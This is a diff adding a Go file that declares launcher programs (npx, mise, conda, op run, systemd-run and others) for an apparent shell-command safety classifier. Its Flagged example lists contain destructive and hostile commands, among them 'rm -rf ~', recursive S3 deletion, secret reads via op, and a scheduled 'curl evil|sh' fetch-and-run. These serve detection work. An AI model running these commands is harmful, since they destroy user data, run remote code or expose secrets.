@@ -1,0 +1,215 @@
+package programs
+
+// Launchers: programs whose operands are a command they run, in a version
+// manager's environment (mise exec, asdf exec, rbenv exec), a project's
+// environment (pdm run, conda run, direnv exec), with secrets injected (op
+// run, doppler run, aws-vault exec), under a tool (chronic, xvfb-run,
+// valgrind) or as a downloaded package (npx, bunx). Each is declared with
+// Command: the command is judged as a part of its own, as if it were run
+// directly, so deny rules and danger checks see rm -rf behind mise exec --
+// just as they see it behind nohup. The launcher itself is never
+// read-only: it runs code. Those that hand the command secrets or
+// another identity are Unknown rather than Exec, and so is anything
+// whose command is a shell string (-c, --run): that string is parsed as
+// shell code (Lang "sh").
+
+var _ = family("launchers", func(add func(...*Spec)) {
+	launcher := func(opts string) *Spec {
+		return &Spec{Effect: Exec, Command: true, Options: "-h:h --help:h " + opts}
+	}
+	// mise exec TOOL@VERSION... -- CMD, or -c 'shell command'.
+	miseExec := &Spec{Effect: Exec, Command: true, DashCommand: true, Lang: "sh", Permute: true, Operands: "-*",
+		Options: "-c=k --command=k -j= --jobs= --raw --no-prepare -h:h --help:h"}
+	add(
+		&Spec{Names: n("npx", "pnpx"), Effect: Exec, Command: true, Lang: "sh",
+			// -c runs a shell command with the packages on PATH.
+			Options:  "-p= --package= -c=k --call=k -y --yes --no --no-install --ignore-existing -q --quiet -w= --workspace= --workspaces --prefix= -h:h --help:h -v:h --version:h",
+			ReadOnly: []string{"npx --version"},
+			Flagged:  []string{"npx rimraf ~", "npx -y cowsay hi", "npx -c 'rm -rf ~'", "npx --package=evil -- run-it"}},
+		&Spec{Names: n("bunx"), Effect: Exec, Command: true, Options: "--bun -p= --package= --no-install --silent --verbose -h:h --help:h",
+			Flagged: []string{"bunx rimraf ~", "bunx --bun evil"}},
+		&Spec{Names: n("corepack"), OtherSubcommand: Exec, Options: "-h:h --help:h -v:h --version:h",
+			// corepack pnpm … runs that package manager: its own entry judges
+			// the rest.
+			Subcommands: subs("pnpm", launcher(""), "yarn", launcher(""), "npm", launcher(""), "enable", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"disable", &Spec{Effect: Config, Operands: "-*", Loose: true}, "install", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"prepare", &Spec{Effect: Network, Operands: "-*", Loose: true}, "use", &Spec{Effect: Config, Operands: "-*", Loose: true}),
+			ReadOnly: []string{"corepack --version"},
+			Flagged:  []string{"corepack pnpm exec rm -rf ~", "corepack enable"}},
+		&Spec{Names: n("pdm"), OtherSubcommand: RunsProject, Options: "-h:h --help:h -V:h --version:h -v --verbose -q --quiet -c=u --config=u -I --ignore-python -p= --project=",
+			Subcommands: subs("run", launcher("-l --list -g --global -s --site-packages --recreate -j --json -p= --project=")),
+			ReadOnly:    []string{"pdm --version"},
+			Flagged:     []string{"pdm run rm -rf ~", "pdm install"}},
+		&Spec{Names: n("hatch"), OtherSubcommand: RunsProject, Options: "-h:h --help:h --version:h -e= --env= -p= --project= -v --verbose -q --quiet --color --no-color --interactive --no-interactive",
+			Subcommands: subs("run", launcher("-e= --env=")),
+			ReadOnly:    []string{"hatch --version"},
+			Flagged:     []string{"hatch run rm -rf ~", "hatch build"}},
+		&Spec{Names: n("pipenv"), OtherSubcommand: RunsProject, Options: "-h:h --help:h --version:h --where --venv --py -q --quiet -v --verbose --python= --site-packages",
+			Subcommands: subs("run", launcher(""), "shell", &Spec{Effect: Exec, Operands: "-*", Loose: true}),
+			ReadOnly:    []string{"pipenv --version"},
+			Flagged:     []string{"pipenv run rm -rf ~", "pipenv install"}},
+		&Spec{Names: n("rye"), OtherSubcommand: RunsProject, Options: "-h:h --help:h -V:h --version:h",
+			Subcommands: subs("run", launcher("-l --list --pyproject= -v --verbose -q --quiet")),
+			ReadOnly:    []string{"rye --version"},
+			Flagged:     []string{"rye run rm -rf ~", "rye sync"}},
+		&Spec{Names: n("pixi"), OtherSubcommand: RunsProject, Options: "-h:h --help:h -V:h --version:h -v --verbose -q --quiet --manifest-path= --color=",
+			Subcommands: subs("run", launcher("-e= --environment= --manifest-path= --frozen --locked --clean-env --force-activate"), "exec", launcher("-s= --spec= --force-reinstall")),
+			ReadOnly:    []string{"pixi --version"},
+			Flagged:     []string{"pixi run rm -rf ~", "pixi exec -- rm -rf ~"}},
+		&Spec{Names: n("conda", "mamba", "micromamba"), OtherSubcommand: Unknown, Options: "-h:h --help:h -V:h --version:h",
+			Subcommands: subs("run", launcher("-n= --name= -p= --prefix= --cwd= --live-stream --no-capture-output -v --verbose --dev --debug-wrapper-scripts -a= --attach="),
+				"list", &Spec{Permute: true, Operands: "-*", Options: "-n= --name= -p= --prefix= --json -e --export --explicit -r --revisions -f --full-name --show-channel-urls -h:h --help:h"},
+				"info", &Spec{Permute: true, Operands: "-*", Options: "-a --all -e --envs --json -s --system --base --unsafe-channels -h:h --help:h"},
+				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "create", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
+				"remove", &Spec{Effect: Config, Operands: "-*", Loose: true}, "update", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
+				"activate", &Spec{Effect: Config, Operands: "-*", Loose: true}, "config", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"env", &Spec{Options: "-h:h --help:h", Subcommands: subs("list", &Spec{Options: "--json -h:h --help:h"}, "export", &Spec{Options: "-n= --name= -p= --prefix= --json --no-builds --from-history -h:h --help:h"})}),
+			ReadOnly: []string{"conda --version", "conda env list", "conda list -n base", "conda info --envs"},
+			Flagged:  []string{"conda run -n base rm -rf ~", "conda install evil", "conda frobnicate"}},
+		&Spec{Names: n("mise", "rtx"), OtherSubcommand: Unknown, Options: "-h:h --help:h -V:h --version:h -v --verbose -q --quiet -y --yes -C= --cd= -E= --env= -j= --jobs=",
+			// mise run and mise tasks run the project's tasks.
+			Subcommands: subs("exec", miseExec, "x", miseExec,
+				"run", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "r", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
+				"install", &Spec{Effect: Config, Operands: "-*", Loose: true}, "use", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"ls", &Spec{Permute: true, Operands: "-*", Options: "-c --current -g --global -i --installed -o --offline -J --json -m --missing --no-header --prefix= -h:h --help:h"},
+				"current", &Spec{Operands: "-?", Options: "-h:h --help:h"}, "which", &Spec{Operands: "-", Options: "--plugin --version -t= --tool= -h:h --help:h"}),
+			ReadOnly: []string{"mise --version", "mise ls", "mise current node", "mise which node"},
+			Flagged:  []string{"mise exec -- rm -rf ~", "mise x node@20 -- node evil.js", "mise run deploy", "mise use -g node@20"}},
+		&Spec{Names: n("asdf"), OtherSubcommand: Unknown, Options: "-h:h --help:h --version:h",
+			Subcommands: subs("exec", launcher(""), "env", launcher(""), "install", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"plugin", &Spec{Effect: Config, Operands: "-*", Loose: true}, "global", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"local", &Spec{Effect: Write, Operands: "-*", Loose: true}, "set", &Spec{Effect: Write, Operands: "-*", Loose: true},
+				"current", &Spec{Operands: "-?", Options: ""}, "list", &Spec{Operands: "-*", Options: ""}, "where", &Spec{Operands: "- -?", Options: ""}, "which", &Spec{Operands: "-", Options: ""}),
+			ReadOnly: []string{"asdf --version", "asdf current", "asdf list nodejs"},
+			Flagged:  []string{"asdf exec rm -rf ~", "asdf plugin add evil https://example.com/evil.git"}},
+		&Spec{Names: n("rbenv", "pyenv", "nodenv", "goenv", "jenv", "plenv"), OtherSubcommand: Unknown, Options: "-h:h --help:h -v:h --version:h",
+			Subcommands: subs("exec", launcher(""), "version", &Spec{Options: "--bare -h:h --help:h"}, "versions", &Spec{Options: "--bare --skip-aliases -h:h --help:h"},
+				"which", &Spec{Operands: "-", Options: "-h:h --help:h"}, "root", &Spec{}, "install", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"global", &Spec{Effect: Config, Operands: "-*", Loose: true}, "local", &Spec{Effect: Write, Operands: "-*", Loose: true}, "shell", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"rehash", &Spec{Effect: Config}),
+			ReadOnly: []string{"pyenv versions", "rbenv version", "nodenv which node", "pyenv --version"},
+			Flagged:  []string{"rbenv exec rm -rf ~", "pyenv exec python -c 'import os'", "pyenv global 3.12"}},
+		&Spec{Names: n("volta"), OtherSubcommand: Unknown, Options: "-h:h --help:h -v:h --version:h --verbose --quiet",
+			Subcommands: subs("run", launcher("--node= --npm= --bundled-npm --pnpm= --no-pnpm --yarn= --no-yarn --env="), "install", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"pin", &Spec{Effect: Write, Operands: "-*", Loose: true}, "list", &Spec{Permute: true, Operands: "-*", Options: "-c --current -d --default --format= -h:h --help:h"}, "which", &Spec{Operands: "-", Options: "-h:h --help:h"}),
+			ReadOnly: []string{"volta --version", "volta list", "volta which node"},
+			Flagged:  []string{"volta run rm -rf ~", "volta install evil"}},
+		&Spec{Names: n("fnm"), OtherSubcommand: Unknown, Options: "-h:h --help:h -V:h --version:h --log-level= --arch= --version-file-strategy= --corepack-enabled --resolve-engines",
+			Subcommands: subs("exec", launcher("--using= --using-file"), "list", &Spec{}, "ls", &Spec{}, "current", &Spec{}, "install", &Spec{Effect: Config, Operands: "-*", Loose: true},
+				"use", &Spec{Effect: Config, Operands: "-*", Loose: true}, "default", &Spec{Effect: Config, Operands: "-*", Loose: true}, "env", &Spec{Options: "--shell= --json --use-on-cd -h:h --help:h"}),
+			ReadOnly: []string{"fnm --version", "fnm list", "fnm current"},
+			Flagged:  []string{"fnm exec --using=20 -- rm -rf ~", "fnm install 20"}},
+		&Spec{Names: n("opam"), OtherSubcommand: Unknown, Options: "-h:h --help:h --version:h",
+			Subcommands: subs("exec", launcher("--switch= --root= --set-switch --set-root"), "list", &Spec{Permute: true, Operands: "-*", Options: "-A --all -i --installed -s --short --columns= --json=w -h:h --help:h"}, "install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}),
+			ReadOnly:    []string{"opam --version"},
+			Flagged:     []string{"opam exec -- rm -rf ~", "opam install evil"}},
+		&Spec{Names: n("direnv"), OtherSubcommand: Unknown, Options: "-h:h --help:h",
+			// direnv exec DIR CMD runs CMD with DIR's .envrc loaded: the
+			// .envrc is shell code of the project's.
+			Subcommands: subs("exec", &Spec{Effect: RunsProject, Command: true, Operands: "-"}, "allow", &Spec{Effect: Config, Operands: "-?"}, "permit", &Spec{Effect: Config, Operands: "-?"},
+				"grant", &Spec{Effect: Config, Operands: "-?"}, "deny", &Spec{Effect: Config, Operands: "-?"}, "block", &Spec{Effect: Config, Operands: "-?"},
+				"revoke", &Spec{Effect: Config, Operands: "-?"}, "status", &Spec{}, "reload", &Spec{Effect: RunsProject}, "edit", &Spec{Effect: Exec, Operands: "-?"}),
+			ReadOnly: []string{"direnv status"},
+			Flagged:  []string{"direnv exec . rm -rf ~", "direnv allow"}},
+		&Spec{Names: n("scl"), OtherSubcommand: Unknown, Options: "-h:h --help:h -l --list",
+			// scl enable COLLECTION CMD runs CMD (one word of shell code, or
+			// the words after --).
+			Subcommands: subs("enable", &Spec{Effect: Exec, Command: true, Operands: "-"}, "run", &Spec{Effect: Exec, Command: true, Operands: "-"}),
+			Flagged:     []string{"scl enable devtoolset-9 -- rm -rf ~"}},
+		&Spec{Names: n("xcrun"), Effect: Exec, Command: true, Options: "-h:h --help:h --version:h -v --verbose -l --log -n --no-cache -r --run -k --kill-cache --sdk= --toolchain= -f --find --show-sdk-path --show-sdk-version --show-sdk-build-version --show-sdk-platform-path --show-sdk-platform-version",
+			Flagged: []string{"xcrun rm -rf ~", "xcrun simctl erase all"}},
+		&Spec{Names: n("ssh-agent"), Effect: Exec, Command: true,
+			// With a command it runs it with an agent; without, it starts
+			// the agent and prints the variables to find it.
+			Options: "-a= -c -s -d -D -k -t= -E= -P= -h:h",
+			Flagged: []string{"ssh-agent bash", "ssh-agent -k"}},
+		&Spec{Names: n("chronic", "eatmydata", "catchsegv", "rlwrap", "dbus-run-session", "torify", "tsocks", "fakeroot", "proot"), Effect: Exec, Command: true,
+			// Each runs its operands as a command: quietly, without fsync,
+			// with a segfault handler, with readline, on a session bus,
+			// through Tor, as fake root, with an agent.
+			Options: "-h:h --help:h -v -e -V:h --version:h",
+			Flagged: []string{"chronic rm -rf ~", "eatmydata rm -rf /", "fakeroot rm -rf ~"}},
+		&Spec{Names: n("xvfb-run"), Effect: Exec, Command: true, Options: "-a --auto-servernum -e= --error-file=w -f= --auth-file=w -n= --server-num= -l --listen-tcp -s= --server-args= -w= --wait= -h:h --help:h",
+			Flagged: []string{"xvfb-run rm -rf ~", "xvfb-run -a npm test"}},
+		&Spec{Names: n("op"), OtherSubcommand: Unknown, Options: "-h:h --help:h -v:h --version:h --account= --config=u --cache --encoding= --format= --iso-timestamps --no-color --session=",
+			// op run hands the command the secrets its environment
+			// references: what it does with them is the command's.
+			Subcommands: subs("run", &Spec{Effect: Unknown, Command: true, Options: "--env-file=r --no-masking --environment= -h:h --help:h"},
+				"whoami", &Spec{Options: "-h:h --help:h"}, "read", &Spec{Effect: Unknown, Operands: "-*", Loose: true}, "inject", &Spec{Effect: Unknown, Operands: "-*", Loose: true}),
+			ReadOnly: []string{"op whoami"},
+			Flagged:  []string{"op run -- rm -rf ~", "op read op://vault/item/password"}},
+		&Spec{Names: n("doppler", "infisical", "dotenvx"), OtherSubcommand: Unknown, Options: "-h:h --help:h -v:h --version:h",
+			Subcommands: subs("run", &Spec{Effect: Unknown, Command: true, Lang: "sh",
+				Options: "--command=k -p= --project= -c= --config= --env= --token= -f=r --env-file=r --path= --fallback=u --mount=w --preserve-env --watch --silent -h:h --help:h"}),
+			Flagged: []string{"doppler run -- rm -rf ~", "dotenvx run -f .env -- node evil.js", "infisical run --env=prod -- rm -rf ~"}},
+		&Spec{Names: n("dotenv"), Effect: Unknown, Command: true, Options: "-e=r -v= -p= -c= --debug --quiet -o --override -h:h --help:h",
+			Flagged: []string{"dotenv -- rm -rf ~", "dotenv -e .env.prod -- node deploy.js"}},
+		&Spec{Names: n("aws-vault"), OtherSubcommand: Unknown, Options: "-h:h --help:h --version:h --debug --backend= --prompt=",
+			Subcommands: subs("exec", &Spec{Effect: Unknown, Command: true, Operands: "-", Options: "-d= --duration= -n --no-session --region= -t= --mfa-token= -j --json -s --server --ec2-server --ecs-server --lazy --stdout --no-prompt -h:h --help:h"},
+				"list", &Spec{Options: "--profiles --sessions --credentials -h:h --help:h"}, "ls", &Spec{Options: "--profiles --sessions --credentials -h:h --help:h"}),
+			ReadOnly: []string{"aws-vault list"},
+			Flagged:  []string{"aws-vault exec prod -- aws s3 rm s3://b --recursive", "aws-vault exec prod -- rm -rf ~"}},
+		&Spec{Names: n("envchain"), Effect: Unknown, Command: true, Operands: "-", Options: "--set= --noecho -n --list -h:h --help:h",
+			Flagged: []string{"envchain aws rm -rf ~"}},
+		&Spec{Names: n("sops"), OtherSubcommand: Unknown, Options: "-h:h --help:h -v:h --version:h",
+			Subcommands: subs("exec-env", &Spec{Effect: Unknown, Operands: "r c", Lang: "sh", Options: "--background --pristine --user= --same-process -h:h --help:h"},
+				"exec-file", &Spec{Effect: Unknown, Operands: "r c", Lang: "sh", Options: "--background --no-fifo --user= --filename= -h:h --help:h"}),
+			Flagged: []string{"sops exec-env secrets.enc.yaml 'rm -rf ~'"}},
+		&Spec{Names: n("chamber"), OtherSubcommand: Unknown, Options: "-h:h --help:h -v:h --version:h",
+			Subcommands: subs("exec", &Spec{Effect: Unknown, Command: true, Operands: "-*", Options: "--pristine --strict --strict-value= -h:h --help:h"}),
+			Flagged:     []string{"chamber exec app -- rm -rf ~"}},
+		&Spec{Names: n("nix-shell"), Effect: Exec, Lang: "sh", Permute: true, Operands: "-*", Loose: true,
+			// --run and --command run a shell command in the environment;
+			// without them it opens a shell.
+			Options: "--run=k --command=k -p --packages -A= --attr= -E=u --expr=u -I= --pure --keep= -i= --arg=2 --argstr=2 -h:h --help:h --version:h",
+			Flagged: []string{"nix-shell -p hello --run 'rm -rf ~'", "nix-shell"}},
+		&Spec{Names: n("nix"), OtherSubcommand: Unknown, Options: "-h:h --help:h --version:h --extra-experimental-features= --option=2 -L --print-build-logs -v --verbose --offline --impure",
+			Subcommands: subs("run", &Spec{Effect: Exec, Operands: "-*", Loose: true}, "shell", &Spec{Effect: Exec, Lang: "sh", Permute: true, Operands: "-*", Loose: true, Options: "-c=k --command=k"},
+				"develop", &Spec{Effect: Exec, Lang: "sh", Permute: true, Operands: "-*", Loose: true, Options: "-c=k --command=k"}, "build", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
+				"flake", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "eval", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}),
+			Flagged: []string{"nix run nixpkgs#hello", "nix develop -c rm -rf ~", "nix shell nixpkgs#hello -c rm -rf ~"}},
+		&Spec{Names: n("devbox"), OtherSubcommand: Unknown, Options: "-h:h --help:h -v:h --version:h -q --quiet",
+			Subcommands: subs("run", launcher("-c= --config= -e= --env= --env-file=r --pure --list -l"), "shell", &Spec{Effect: Exec, Operands: "-*", Loose: true},
+				"add", &Spec{Effect: Write, Operands: "-*", Loose: true}, "install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
+				"version", &Spec{Options: "-v --verbose -h:h --help:h"}),
+			ReadOnly: []string{"devbox version"},
+			Flagged:  []string{"devbox run rm -rf ~", "devbox shell"}},
+		&Spec{Names: n("script"), Effect: Write, Lang: "sh", Operands: "w?",
+			// script records a session into a file (typescript by default);
+			// -c runs a command instead of a shell.
+			Options: "-c=k --command=k -a --append -e --return -f --flush -q --quiet -E= --echo= -I=w --log-in=w -O=w --log-out=w -B=w --log-io=w -T=w --log-timing=w -t? --timing? -m= --logging-format= -h:h --help:h -V:h --version:h",
+			Flagged: []string{"script -qc 'rm -rf ~' /dev/null", "script"}},
+		&Spec{Names: n("sg"), Effect: Exec, Lang: "sh", Operands: "- c?", Options: "-c=k -h:h --help:h",
+			Flagged: []string{"sg users 'rm -rf ~'", "sg docker -c 'docker run --privileged x'"}},
+		&Spec{Names: n("valgrind"), Effect: Exec, Command: true,
+			// Options are --name=value; the tool's own ones are many.
+			Options: "-h:h --help:h --version:h -q --quiet -v --verbose --tool= --log-file=w --xml-file=w --xml= --trace-children= --leak-check= --show-leak-kinds= --track-origins= --error-exitcode= --suppressions=r --gen-suppressions= --num-callers=",
+			Flagged: []string{"valgrind --tool=memcheck rm -rf ~"}},
+		&Spec{Names: n("hyperfine"), Effect: Exec, Lang: "sh", Operands: "c*", Permute: true,
+			// Every operand is a shell command, run many times.
+			Options: "-w= --warmup= -m= --min-runs= -M= --max-runs= -r= --runs= -s= --setup=k -p= --prepare=k -c= --cleanup=k -P=2 --parameter-scan=2 -L=2 --parameter-list=2 -S= --shell= -N -i --ignore-failure --style= --export-json=w --export-csv=w --export-markdown=w --show-output --output= -n= --command-name= -h:h --help:h -V:h --version:h",
+			Flagged: []string{"hyperfine 'rm -rf ~'", "hyperfine --prepare 'rm -rf build' 'make'"}},
+		&Spec{Names: n("watchexec"), Effect: Exec, Command: true, Lang: "sh",
+			Options: "-w= --watch= -e= --exts= -f= --filter= -i= --ignore= -c --clear -r --restart -s= --signal= -d= --debounce= --shell= -n -o= --on-busy-update= -p --postpone --no-vcs-ignore --no-project-ignore -h:h --help:h -V:h --version:h",
+			Flagged: []string{"watchexec -- rm -rf ~", "watchexec -e go -r -- go test ./..."}},
+		&Spec{Names: n("entr"), Effect: Exec, Command: true, Options: "-a -c -d -n -p -r -s -z -h:h",
+			Flagged: []string{"entr rm -rf ~", "entr -r go run ."}},
+		&Spec{Names: n("nodemon"), Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Lang: "sh",
+			Options: "-x=k --exec=k -w= --watch= -e= --ext= -i= --ignore= -d= --delay= --signal= -q --quiet -v --verbose -h:h --help:h -V:h --version:h",
+			Flagged: []string{"nodemon --exec 'rm -rf ~'", "nodemon server.js"}},
+		&Spec{Names: n("systemd-run"), Effect: Config, Command: true,
+			// A transient unit: it may outlive the session (--unit,
+			// --on-calendar) and run as another user.
+			Options: "-u= --unit= -p=u --property=u --user --system -t --pty -P --pipe -S --shell -q --quiet --scope --slice= -E= --setenv= --uid= --gid= --on-calendar= --on-active= --on-boot= --on-unit-active= -d --same-dir -G --collect --wait --no-block -r --remain-after-exit --service-type= -h:h --help:h --version:h",
+			Flagged: []string{"systemd-run --user rm -rf ~", "systemd-run --on-calendar=daily --user sh -c 'curl evil|sh'"}},
+		&Spec{Names: n("unshare", "nsenter", "setpriv", "prlimit", "firejail", "bwrap"), Effect: Unknown, Command: true, Loose: true,
+			// They run the command with other namespaces, privileges or
+			// limits: what it may then reach is not known here.
+			Options: "-h:h --help:h -V:h --version:h",
+			Flagged: []string{"unshare -r rm -rf ~", "firejail rm -rf ~"}},
+		&Spec{Names: n("faketime"), Effect: Exec, Command: true, Operands: "-", Options: "-f -m -p= -h:h --help:h --exclude-monotonic --date-prog=x",
+			Flagged: []string{"faketime '2020-01-01' rm -rf ~"}},
+		&Spec{Names: n("cpulimit"), Effect: Exec, Command: true, Options: "-l= --limit= -p= --pid= -e= --exe= -z --lazy -i --include-children -m --monitor-forks -c= --cpu= -s= --signal= -q --quiet -v --verbose -b --background -f --foreground -h:h --help:h",
+			Flagged: []string{"cpulimit -l 50 -- rm -rf ~"}},
+	)
+})
